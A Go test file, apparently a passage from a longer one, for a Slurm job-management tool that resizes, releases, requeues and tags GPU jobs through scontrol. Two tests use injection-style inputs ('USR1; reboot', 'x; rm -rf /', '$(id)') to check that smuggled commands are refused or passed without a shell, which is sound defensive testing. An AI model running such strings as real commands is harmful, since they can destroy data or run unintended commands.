		"start":      {Kind: ActionStart, JobID: 5, NumNodes: 1, CPUsPerTask: 2, Tag: planTag},
		"time limit": {Kind: ActionTimeLimit, JobID: 5, TimeLimit: 60, Tag: planTag},
	} {
		t.Run(name, func(t *testing.T) {
			j := pendingHeld(5)
			j.AdminComment = "model_type=gpt2;rubick:v2 model=gpt2 shape=new"
			f := newApplierFixture(t, map[int][]Job{5: {j}}, nil)
			res := f.app.ApplyOne(context.Background(), act)
			if !errors.Is(res.Err, ErrNewerTag) || !strings.Contains(res.Err.Error(), `"rubick:v2 model=gpt2 shape=new"`) {
				t.Errorf("Err = %v, want ErrNewerTag naming the segment", res.Err)
			}
			if calls := f.runner.Calls(); len(calls) != 0 {
				t.Errorf("ran %v, want nothing", calls)
			}
		})
	}
}

func TestApplyAnnotateNoop(t *testing.T) {
	j := running(5, "node1")
	j.AdminComment, j.RestartCount = "model_type=gpt2;"+planTag.String()+" rc=2", 2
	f := newApplierFixture(t, map[int][]Job{5: {j}}, nil)
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 5, Tag: planTag})
	if res.Err != nil || len(f.runner.Calls()) != 0 {
		t.Errorf("Err = %v, calls %v; want nothing to do", res.Err, f.runner.Calls())
	}
}

func TestApplyManyPartialFailure(t *testing.T) {
	f := newApplierFixture(t, map[int][]Job{
		1: {running(1, "node1")},
		2: {running(2, "node2")},
	}, nil)
	f.runner.failAt = map[int]string{1: "slurm_update error: Access/permission denied"}
	results := f.app.Apply(context.Background(), []Action{
		{Kind: ActionAnnotate, JobID: 1, Tag: planTag},
		{Kind: ActionAnnotate, JobID: 404, Tag: planTag},
		{Kind: ActionAnnotate, JobID: 2, Tag: planTag},
	})
	if len(results) != 3 {
		t.Fatalf("%d results", len(results))
	}
	if results[0].Err == nil || results[0].After == nil {
		t.Errorf("result 0: %+v", results[0])
	}
	if !errors.Is(results[1].Err, ErrNotFound) || results[1].AfterErr == nil {
		t.Errorf("result 1: %+v", results[1])
	}
	if results[2].Err != nil {
		t.Errorf("result 2: %v", results[2].Err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	results = f.app.Apply(ctx, []Action{{Kind: ActionAnnotate, JobID: 2, Tag: planTag}})
	if !errors.Is(results[0].Err, context.Canceled) {
		t.Errorf("cancelled: %v", results[0].Err)
	}
}

func TestNewApplierValidates(t *testing.T) {
	if _, err := NewApplier(ApplierConfig{}); err == nil {
		t.Error("no cluster accepted")
	}
	if _, err := NewApplier(ApplierConfig{Cluster: &fakeCluster{}, Signal: "USR1; reboot"}); err == nil {
		t.Error("bad signal accepted")
	}
	a, err := NewApplier(ApplierConfig{Cluster: &fakeCluster{}, ReleaseDelay: 100 * time.Millisecond})
	if err != nil || a.cfg.ReleaseDelay < time.Second {
		t.Errorf("release delay %v below 1 s accepted (%v)", a.cfg.ReleaseDelay, err)
	}
}

func TestExecRunnerPassesArgvVerbatim(t *testing.T) {
	printf, err := exec.LookPath("printf")
	if err != nil {
		t.Skip("no printf binary")
	}
	args := []string{printf, "%s|", "x; rm -rf /", "$(id)", "`id`", "a b"}
	out, err := ExecRunner{}.Run(context.Background(), args)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := string(out), "x; rm -rf /|$(id)|`id`|a b|"; got != want {
		t.Errorf("output %q, want %q", got, want)
	}
}

func TestExecRunnerError(t *testing.T) {
	ls, err := exec.LookPath("ls")
	if err != nil {
		t.Skip("no ls binary")
	}
	argv := []string{ls, "/nonexistent/rubick-test"}
	_, err = ExecRunner{}.Run(context.Background(), argv)
	var ce *CommandError
	if !errors.As(err, &ce) || ce.ExitCode == 0 || ce.Stderr == "" {
		t.Fatalf("err = %#v", err)
	}
	if diff := cmp.Diff(argv, ce.Argv); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
	_, err = ExecRunner{}.Run(context.Background(), []string{"/nonexistent/scontrol"})
	if !errors.As(err, &ce) || ce.ExitCode != -1 {
		t.Errorf("missing binary: %v", err)
	}
}

func TestWithoutJobID(t *testing.T) {
	got := withoutJobID([]string{"PATH=/bin", "SLURM_JOB_ID=5", "SLURM_JOBID=5", "SLURM_CONF=/x"})
	if diff := cmp.Diff([]string{"PATH=/bin", "SLURM_CONF=/x"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestApplySplit(t *testing.T) {
	array := pendingHeld(40)
	array.ArrayTasks, array.AdminComment = "0-3", "rubick:v1 model=bert class=best-effort"
	f := newApplierFixture(t, map[int][]Job{40: {array}}, nil)
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionSplit, JobID: 40, Tasks: []int{0, 1}})
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{
		{"/usr/bin/scontrol", "update", "JobId=40_0", "AdminComment=rubick:v1 model=bert class=best-effort"},
		{"/usr/bin/scontrol", "update", "JobId=40_1", "AdminComment=rubick:v1 model=bert class=best-effort"},
	}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}

	// A job that is no array record (split already) is not touched.
	f = newApplierFixture(t, map[int][]Job{41: {pendingHeld(41)}}, nil)
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionSplit, JobID: 41, Tasks: []int{0}}); !errors.Is(res.Err, ErrJobState) {
		t.Errorf("split of a plain job: %v, want ErrJobState", res.Err)
	}
	for _, tasks := range [][]int{nil, {-1}} {
		if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionSplit, JobID: 41, Tasks: tasks}); !errors.Is(res.Err, ErrBadAction) {
			t.Errorf("split of tasks %v: %v, want ErrBadAction", tasks, res.Err)
		}
	}
	if len(f.runner.Calls()) != 0 {
		t.Errorf("scontrol ran: %v", f.runner.Calls())
	}
}

// The array's last record keeps the array's ID, which names every task to
// scontrol: a task is always named ARRAY_TASK.
func TestApplyStartArrayTask(t *testing.T) {
	task := pendingHeld(40)
	task.ArrayJobID, task.ArrayTaskID = 40, 3
	f := newApplierFixture(t, map[int][]Job{40: {task}}, nil)
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionStart, JobID: 40, NumNodes: 1, CPUsPerTask: 2})
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{
		{"/usr/bin/scontrol", "update", "JobId=40_3", "NumNodes=1-1", "NumTasks=1", "CPUsPerTask=2", "MinCPUsNode=2", "NumCPUs=2"},
		{"/usr/bin/scontrol", "release", "40_3"},
	}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
}

func TestJobRef(t *testing.T) {
	for want, j := range map[string]Job{
		"7":    {ID: 7},
		"40_3": {ID: 40, ArrayJobID: 40, ArrayTaskID: 3},
		"40_0": {ID: 41, ArrayJobID: 40, ArrayTaskID: 0},
		// The record of tasks not split off yet: those alone, not the
		// array's every task.
		"40_[0-2]":          {ID: 40, ArrayJobID: 40, ArrayTasks: "0-2"},
		"40_[0-1,3-5]":      {ID: 40, ArrayJobID: 40, ArrayTasks: "0-1,3-5%3"},
		"40_[0,4,8,12]":     {ID: 40, ArrayJobID: 40, ArrayTasks: "0-12:4%2"},
		"40_[1,2,5,7,9,11]": {ID: 40, ArrayJobID: 40, ArrayTasks: "1-2,5-11:2"},
	} {
		if got := j.Ref(); got != want {
			t.Errorf("%+v.Ref() = %q, want %q", j, got, want)
		}
	}
}

// The resize of a start keeps what the job asked for that rubick does not
// change, and sends only what it does.
func TestApplyStartResize(t *testing.T) {
	tests := map[string]struct {
		job  func(*Job)
		act  Action
		want []string // the update's argv after the size
	}{
		// --gpus and --gpus-per-task beside Gres=gpu:N are an invalid gres
		// specification: cleared with the resize.
		"GPUs per job": {func(j *Job) { j.GPUsPerNode, j.GPUsNotPerNode = 4, true },
			Action{Nodes: []string{"node1"}, GPUsPerNode: 8, CPUsPerTask: 2},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=2", "MinCPUsNode=2", "NumCPUs=2", "TresPerJob=", "TresPerTask=", "Gres=gpu:8", "NodeList=node1"}},
		// An untyped Gres beside a typed request is refused.
		"GPU type": {func(j *Job) { j.GPUTypes = []string{"h100"} },
			Action{Nodes: []string{"node3"}, GPUsPerNode: 4, CPUsPerTask: 4},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:h100:4", "NodeList=node3"}},
		// A user's --nodelist given back: node3 and another.
		"fewer nodes listed": {func(*Job) {},
			Action{NumNodes: 2, Nodes: []string{"node3"}, GPUsPerNode: 2, CPUsPerTask: 4},
			[]string{"NumNodes=2-2", "NumTasks=2", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=8", "Gres=gpu:2", "NodeList=node3"}},
		// --mem-per-gpu: memory per GPU, never below the submitted value
		// (checked on both labs: srun refuses SLURM_MEM_PER_NODE beside
		// SLURM_MEM_PER_GPU, and steps ask the submitted value).
		"memory per GPU": {func(j *Job) { j.MemPerGPUMB = 16384 },
			Action{Nodes: []string{"node1"}, GPUsPerNode: 4, CPUsPerTask: 4, MemPerNodeMB: 100000},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:4", "MemPerTres=gres:gpu:25000", "NodeList=node1"}},
		"memory per GPU, less": {func(j *Job) { j.MemPerGPUMB = 16384 },
			Action{Nodes: []string{"node1"}, GPUsPerNode: 4, CPUsPerTask: 4, MemPerNodeMB: 40000},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:4", "MemPerTres=gres:gpu:16384", "NodeList=node1"}},
		// An earlier resize raised it to 24000: the next comes down to
		// what it books, as far as the submitted value.
		"memory per GPU, raised before": {func(j *Job) { j.MemPerGPUMB = 24000 },
			Action{Nodes: []string{"node1"}, GPUsPerNode: 8, CPUsPerTask: 4, MemPerNodeMB: 147456, MemPerGPUFloorMB: 8192},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:8", "MemPerTres=gres:gpu:18432", "NodeList=node1"}},
		"memory per GPU, raised before, less": {func(j *Job) { j.MemPerGPUMB = 24000 },
			Action{Nodes: []string{"node1"}, GPUsPerNode: 8, CPUsPerTask: 4, MemPerNodeMB: 40000, MemPerGPUFloorMB: 8192},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:8", "MemPerTres=gres:gpu:8192", "NodeList=node1"}},
		// Gres= replaces the whole list: the other GRES go with it (22.05
		// lab: Gres=gpu:4 dropped lscratch:100).
		"other GRES": {func(j *Job) { j.OtherGres = []string{"lscratch:100", "nvme:fast:1"} },
			Action{Nodes: []string{"node1"}, GPUsPerNode: 4, CPUsPerTask: 4},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:4,lscratch:100,nvme:fast:1", "NodeList=node1"}},
		// Submitted to several partitions: started in rubick's.
		"partition": {func(j *Job) { j.Partition = "debug,gpu" },
			Action{Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4, Partition: "gpu"},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:2", "Partition=gpu", "NodeList=node2"}},
		// Slurm takes whole minutes: a part of one is rounded up.
		"time limit": {func(*Job) {},
			Action{Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4, TimeLimit: 90*time.Minute + time.Second},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:2", "TimeLimit=91", "NodeList=node2"}},
		// Slurm refuses a limit below the job's --time-min ("Invalid
		// time-min specification", 22.05 lab): the minimum comes down
		// with it, and only then.
		"time limit below --time-min": {func(j *Job) { j.TimeMin = 30 * time.Minute },
			Action{Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4, TimeLimit: 20 * time.Minute},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:2", "TimeLimit=20", "TimeMin=20", "NodeList=node2"}},
		"time limit at --time-min": {func(j *Job) { j.TimeMin = 91 * time.Minute },
			Action{Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4, TimeLimit: 90*time.Minute + time.Second},
			[]string{"NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:2", "TimeLimit=91", "NodeList=node2"}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			job := pendingHeld(33)
			tc.job(&job)
			f := newApplierFixture(t, map[int][]Job{33: {job}}, nil)
			tc.act.Kind, tc.act.JobID = ActionStart, 33
			if res := f.app.ApplyOne(context.Background(), tc.act); res.Err != nil {
				t.Fatal(res.Err)
			}
			want := [][]string{
				append([]string{"/usr/bin/scontrol", "update", "JobId=33"}, tc.want...),
				{"/usr/bin/scontrol", "release", "33"},
			}
			if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}

	// One per-node count cannot keep several GPU types.
	job := pendingHeld(35)
	job.GPUTypes = []string{"a100", "v100"}
	f := newApplierFixture(t, map[int][]Job{35: {job}}, nil)
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionStart, JobID: 35, Nodes: []string{"node3"}, GPUsPerNode: 4, CPUsPerTask: 4})
	if !errors.Is(res.Err, ErrBadAction) || len(f.runner.Calls()) > 0 {
		t.Errorf("two GPU types: %v, calls %v; want ErrBadAction and no call", res.Err, f.runner.Calls())
	}
}

// A release starts a held job as it is: the tag, then scontrol release;
// nothing that resizes it (Slurm refuses that for heterogeneous jobs).
func TestApplyRelease(t *testing.T) {
	job := pendingHeld(52)
	job.HetJobID = 52
	f := newApplierFixture(t, map[int][]Job{52: {job}}, nil)
	tag := Tag{ModelType: "bert", Generation: 1}
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionRelease, JobID: 52, Tag: &tag})
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{
		{"/usr/bin/scontrol", "update", "JobId=52", "AdminComment=model_type=gpt2;rubick:v1 model=bert gen=1 rc=0"},
		{"/usr/bin/scontrol", "release", "52"},
	}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}

	job.State = StateRunning
	f = newApplierFixture(t, map[int][]Job{52: {job}}, nil)
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionRelease, JobID: 52}); !errors.Is(res.Err, ErrJobState) || len(f.runner.Calls()) > 0 {
		t.Errorf("release of a running job: %v, calls %v; want ErrJobState and no call", res.Err, f.runner.Calls())
	}
}

func TestJobEnded(t *testing.T) {
	for _, tc := range []struct {
		j    Job
		want bool
	}{
		{Job{State: StateCompleted}, true},
		{Job{State: StateFailed}, true},
		{Job{State: StateCompleting}, false},
		{Job{State: StateRunning}, false},
		{Job{State: StatePending}, false},
		{Job{State: StateCompleted, StateFlags: []string{StateCompleting}}, false},
	} {
		if got := tc.j.Ended(); got != tc.want {
			t.Errorf("%s %v: Ended() = %v, want %v", tc.j.State, tc.j.StateFlags, got, tc.want)
		}
	}
}

// A start's time limit goes in the update that writes the tag recording
// it (ts=), not in the resize: a failure between the two leaves both as
// they were, never a limit rubick set under a tag that reads it as set by
// hand (or, in a job's first tag, as its user's).
func TestApplyStartTimeLimitWithTag(t *testing.T) {
	tag := Tag{ModelType: "gpt2", Plan: "dp2.tp1.pp1.mb4.a1.z0", Generation: 1, Extra: map[string]string{"ts": "91", "tl": "60"}}
	act := Action{Kind: ActionStart, JobID: 33, Nodes: []string{"node2"}, GPUsPerNode: 2, CPUsPerTask: 4,
		TimeLimit: 90*time.Minute + time.Second, Tag: &tag}
	resize := []string{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=1-1", "NumTasks=1", "CPUsPerTask=4", "MinCPUsNode=4", "NumCPUs=4", "Gres=gpu:2", "NodeList=node2"}
	annotate := []string{"/usr/bin/scontrol", "update", "JobId=33", "TimeLimit=91",
		"AdminComment=model_type=gpt2;rubick:v1 model=gpt2 plan=dp2.tp1.pp1.mb4.a1.z0 gen=1 rc=0 tl=60 ts=91"}
	release := []string{"/usr/bin/scontrol", "release", "33"}

	f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}}, nil)
	if res := f.app.ApplyOne(context.Background(), act); res.Err != nil {
		t.Fatal(res.Err)
	}
	if diff := cmp.Diff([][]string{resize, annotate, release}, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}

	// The tag's update fails: the limit was not sent on its own.
	f = newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}}, nil)
	f.runner.failAt = map[int]string{2: "slurm_update error: Socket timed out on send/recv operation"}
	if res := f.app.ApplyOne(context.Background(), act); res.Err == nil {
		t.Fatal("applied, want the tag's failure")
	}
	if diff := cmp.Diff([][]string{resize, annotate}, f.runner.Calls()); diff != "" {
		t.Errorf("argv when the tag fails (-want +got):\n%s", diff)
	}
}

// A time limit alone: one update, on a running job.
func TestApplyTimeLimit(t *testing.T) {
	f := newApplierFixture(t, map[int][]Job{5: {running(5, "node1")}}, nil)
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionTimeLimit, JobID: 5, TimeLimit: 95*time.Minute + time.Second}); res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{{"/usr/bin/scontrol", "update", "JobId=5", "TimeLimit=96"}}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}

	// With its tag: still one update, which cannot leave one without the other.
	f = newApplierFixture(t, map[int][]Job{5: {running(5, "node1")}}, nil)
	tag := Tag{ModelType: "gpt2", Class: ClassBestEffort, Generation: 1, Extra: map[string]string{"ts": "96"}}
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionTimeLimit, JobID: 5, TimeLimit: 96 * time.Minute, Tag: &tag}); res.Err != nil {
		t.Fatal(res.Err)
	}
	want = [][]string{{"/usr/bin/scontrol", "update", "JobId=5", "TimeLimit=96", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort gen=1 rc=0 ts=96"}}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv with a tag (-want +got):\n%s", diff)
	}

	// Below the job's --time-min: the minimum comes down in the same update.
	job := pendingHeld(6)
	job.TimeMin = 2 * time.Hour
	f = newApplierFixture(t, map[int][]Job{6: {job}}, nil)
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionTimeLimit, JobID: 6, TimeLimit: 45 * time.Minute}); res.Err != nil {
		t.Fatal(res.Err)
	}
	want = [][]string{{"/usr/bin/scontrol", "update", "JobId=6", "TimeLimit=45", "TimeMin=45"}}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv below --time-min (-want +got):\n%s", diff)
	}
}

// A tag goes with the job's restart count, and in the same update its
// Comment loses rubick-srun's RequeueWord; the Comment is left alone
// otherwise. A hold's word goes first, in an update of its own: Slurm may
// take part of a multi-field update, and the count without the word would
// read as rubick's hold. When that update fails, the tag is not written.
func TestApplyAnnotateComment(t *testing.T) {
	tag := &Tag{ModelType: "gpt2", Generation: 1}
	const ac = "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=1 rc=3"
	tests := map[string]struct {
		comment string
		hold    bool
		// fail makes the first command fail.
		fail bool
		want [][]string // after JobId=
	}{
		"comment untouched":   {comment: "my note", want: [][]string{{ac}}},
		"requeue word out":    {comment: "my note rubick:requeue", want: [][]string{{ac}, {"Comment=my note"}}},
		"hold":                {comment: "my note", hold: true, want: [][]string{{"Comment=my note rubick:hold"}, {ac}}},
		"hold, no comment":    {hold: true, want: [][]string{{"Comment=rubick:hold"}, {ac}}},
		"hold marked already": {comment: "rubick:hold", hold: true, want: [][]string{{ac}}},
		"hold fails":          {comment: "my note", hold: true, fail: true, want: [][]string{{"Comment=my note rubick:hold"}}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			j := requeued(7)
			j.RestartCount, j.Comment = 3, tc.comment
			if tc.hold {
				// Its tag counts 2 restarts: the third was someone
				// else's, which a hold marks (RequeuedByOther).
				j.Tag = &Tag{ModelType: "gpt2", Extra: map[string]string{TagRestarts: "2"}}
			}
			f := newApplierFixture(t, map[int][]Job{7: {j}}, nil)
			if tc.fail {
				f.runner.failAt = map[int]string{1: "slurm_update error: Unable to contact slurm controller"}
			}
			res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: tag, Hold: tc.hold})
			if (res.Err != nil) != tc.fail {
				t.Fatalf("Err = %v, want an error: %t", res.Err, tc.fail)
			}
			var want [][]string
			for _, args := range tc.want {
				want = append(want, append([]string{"/usr/bin/scontrol", "update", "JobId=7"}, args...))
			}
			if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}
	f := newApplierFixture(t, map[int][]Job{7: {requeued(7)}}, nil)
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionRelease, JobID: 7, Tag: tag, Hold: true}); !errors.Is(res.Err, ErrBadAction) {
		t.Errorf("a hold with a release: %v, want ErrBadAction", res.Err)
	}
}

// Before rubick requeues a job, BEGIN and REQUEUE leave its mail types:
// Slurm would mail both at every requeue and start. The rest stay, a job
// without either is not updated, and a read that fails changes nothing
// but the mail. The tag written after the requeue keeps the mail types the
// job had (TagMail), for when it runs again, over those an earlier
// requeue's tag still keeps (its user chose others since).
func TestApplyQuietMail(t *testing.T) {
	signal := []string{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"}
	// keep is the update that keeps the job's mail types (mail) in its own
	// tag, before quiet quiets them to mailType, in an update of its own:
	// the fixture's job has the legacy tag of job_submit.lua's first
	// version.
	keep := func(mail string) []string {
		return []string{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 mail=" + mail + " rc=0"}
	}
	quiet := func(mailType string) []string {
		return []string{"/usr/bin/scontrol", "update", "JobId=32", "MailType=" + mailType}
	}
	tests := map[string]struct {
		show       string
		tagMail    string // TagMail in the job's tag; "": none
		failShow   bool
		failAt     int        // the update that fails; 0: none
		keep       bool       // ApplierConfig.RequeueMail
		wantBefore [][]string // the calls before the signal
		wantMail   string     // TagMail in the tag written after the requeue
	}{
		"all": {show: "JobId=32 Comment=x MailUser=alice MailType=INVALID_DEPEND,BEGIN,END,FAIL,REQUEUE,STAGE_OUT",
			wantBefore: [][]string{showMail, keep("invalid-depend,begin,end,fail,requeue,stage-out"), quiet("INVALID_DEPEND,END,FAIL,STAGE_OUT")},
			wantMail:   "invalid-depend,begin,end,fail,requeue,stage-out"},
		"ALL spelled": {show: "MailUser=alice MailType=ALL",
			wantBefore: [][]string{showMail, keep("all"), quiet("END,FAIL,INVALID_DEPEND,STAGE_OUT")},
			wantMail:   "all"},
		"begin only": {show: "MailUser=alice MailType=BEGIN",
			wantBefore: [][]string{showMail, keep("begin"), quiet("NONE")}, wantMail: "begin"},
		"comment first": {show: "Comment=MailType=NONE MailUser=alice MailType=REQUEUE,TIME_LIMIT_90",
			wantBefore: [][]string{showMail, keep("requeue,time-limit-90"), quiet("TIME_LIMIT_90")},
			wantMail:   "requeue,time-limit-90"},
		// Slurm may have taken MailType= all the same: the tag after the
		// requeue keeps what it had.
		"quieting fails": {show: "MailUser=alice MailType=BEGIN,END", failAt: 3,
			wantBefore: [][]string{showMail, keep("begin,end"), quiet("END")}, wantMail: "begin,end"},
		// Without their record, the mail types are not quieted.
		"keeping fails": {show: "MailUser=alice MailType=BEGIN,END", failAt: 2,
			wantBefore: [][]string{showMail, keep("begin,end")}},
		// An earlier requeue's record, of mail types given back to a job
		// its user has since changed them on: quieted and read back as
		// they are now, the old record would read as changed, the new
		// mail types kept quiet for good.
		"tag keeps older ones": {show: "MailUser=alice MailType=BEGIN,END,FAIL", tagMail: "begin,end",
			wantBefore: [][]string{showMail, keep("begin,end,fail"), quiet("END,FAIL")}, wantMail: "begin,end,fail"},
		"end and fail": {show: "MailUser=alice MailType=END,FAIL", wantBefore: [][]string{showMail}},
		"no mail":      {show: "JobId=32 JobName=train", wantBefore: [][]string{showMail}},
		"read fails":   {show: "MailType=ALL", failShow: true, wantBefore: [][]string{showMail}},
		"kept":         {show: "MailType=ALL", keep: true},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			jobs := []Job{running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)}
			if tc.tagMail != "" {
				for i := range jobs {
					jobs[i].AdminComment += ";rubick:v1 model=gpt2 mail=" + tc.tagMail + " rc=0"
				}
			}
			f := newApplierFixture(t, map[int][]Job{32: jobs},
				func(c *ApplierConfig) { c.RequeueMail = tc.keep })
			f.runner.out = []byte(tc.show)
			if tc.failShow {
				f.runner.failAt = map[int]string{1: "scontrol: error: Socket timed out"}
			}
			if tc.failAt > 0 {
				f.runner.failAt = map[int]string{tc.failAt: "slurm_update error: Unable to contact slurm controller"}
			}
			res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
			if res.Err != nil {
				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
			}
			calls := f.runner.Calls()
			i := slices.IndexFunc(calls, func(c []string) bool { return slices.Equal(c, signal) })
			if i < 0 {
				t.Fatalf("no signal in %q", calls)
			}
			if diff := cmp.Diff(tc.wantBefore, calls[:i], cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("calls before the signal (-want +got):\n%s", diff)
			}
			var tag *Tag
			for _, c := range calls[i:] {
				for _, a := range c {
					if ac, ok := strings.CutPrefix(a, "AdminComment="); ok {
						tag, _ = TagFromAdminComment(ac)
					}
				}
			}
			if tag == nil || tag.Extra[TagMail] != tc.wantMail {
				t.Errorf("tag written after the requeue %+v, want %s=%q", tag, TagMail, tc.wantMail)
			}
			if tc.wantMail != "" {
				if got, want := MailTypeOfTag(tag), MailTypeOf(tc.show); got != want {
					t.Errorf("MailTypeOfTag = %q, want %q", got, want)
				}
			}
		})
	}
}

// An annotate with a MailType gives a running job back the mail types
// rubick quieted, in an update of its own before the one that writes its
// tag without them, unless they changed since (its user's own choice then
// stays, as do the mail types an earlier give-back whose tag was not
// written gave back). A give-back that fails writes no tag: the tag keeps
// mail= for the next one. A job rubick-srun is requeueing (rubick:requeue
// in its Comment) is left alone: the write would take the mark out.
func TestApplyRestoreMail(t *testing.T) {
	tag := &Tag{ModelType: "gpt2", Plan: "dp2.tp1.pp1.mb1.a1.z0", Generation: 2}
	giveBack := []string{"/usr/bin/scontrol", "update", "JobId=32", "MailType=ALL"}
	writeTag := []string{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 plan=dp2.tp1.pp1.mb1.a1.z0 gen=2 rc=0"}
	tests := map[string]struct {
		show       string
		requeueing bool
		failAt     int // the call that fails; 0: none
		want       [][]string
	}{
		"quieted":             {show: "JobId=32 MailType=END,FAIL,INVALID_DEPEND,STAGE_OUT", want: [][]string{showMail, giveBack, writeTag}},
		"changed by its user": {show: "JobId=32 MailType=END", want: [][]string{showMail, writeTag}},
		"given back before":   {show: "JobId=32 MailType=ALL", want: [][]string{showMail, writeTag}},
		"give-back fails":     {show: "JobId=32 MailType=END,FAIL,INVALID_DEPEND,STAGE_OUT", failAt: 2, want: [][]string{showMail, giveBack}},
		"requeueing itself":   {show: "JobId=32 MailType=END,FAIL,INVALID_DEPEND,STAGE_OUT", requeueing: true},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			j := running(32, "node2")
			if tc.requeueing {
				j.Comment = RequeueWord
			}
			f := newApplierFixture(t, map[int][]Job{32: {j}}, nil)
			f.runner.out = []byte(tc.show)
			if tc.failAt > 0 {
				f.runner.failAt = map[int]string{tc.failAt: "slurm_update error: Unable to contact slurm controller"}
			}
			res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 32, Tag: tag, MailType: "ALL"})
			if (res.Err != nil) != (tc.failAt > 0) {
				t.Fatalf("Err = %v, want an error %v; steps %+v", res.Err, tc.failAt > 0, res.Steps)
			}
			if diff := cmp.Diff(tc.want, f.runner.Calls(), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}
}

// The mail types rubick-srun quieted before it requeued a job itself
// (its Comment's MailWord, its user cannot write the tag) move into the
// tag at the next annotate, the answer to that requeue, to be given back
// once the job runs (TestApplyRestoreMail). They replace those a tag
// keeps from an earlier requeue: that one's were quieted, so the job's
// were its user's new choice, which the give-back would otherwise leave
// quieted. A malformed word is dropped.
func TestApplyMovesMailWord(t *testing.T) {
	tag := &Tag{ModelType: "gpt2", Plan: "dp2.tp1.pp1.mb1.a1.z0", Generation: 2}
	tests := map[string]struct {
		comment, ac string
		tagMail     string // the action's tag's
		want        []string
	}{
		"mail word": {comment: "my note rubick:requeue rubick:mail=begin,end,invalid-depend",
			want: []string{"AdminComment=rubick:v1 model=gpt2 plan=dp2.tp1.pp1.mb1.a1.z0 gen=2 mail=begin,end,invalid-depend rc=0", "Comment=my note"}},
